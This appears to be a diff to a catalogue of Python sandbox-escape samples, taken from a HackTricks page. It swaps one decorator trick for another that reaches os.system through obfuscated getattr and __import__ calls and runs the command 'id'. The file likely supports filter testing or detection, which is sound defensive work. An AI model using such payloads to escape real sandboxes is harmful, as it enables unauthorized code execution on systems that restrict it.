@@ -1,8 +1,7 @@
 # Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE with decorators)
 # Family: decorator
-# What: decorators built from getattr partials reach os.system
-import functools
-
-@functools.partial(getattr(__import__("o" + "s"), "system"))
+# What: arbitrary decorator expressions (3.9+): getattr(os, 'system') applied to what a lambda returns
+@getattr(__import__("o" + "s"), "sys" + "tem")
+@(lambda _: "id")
 def _():
     pass
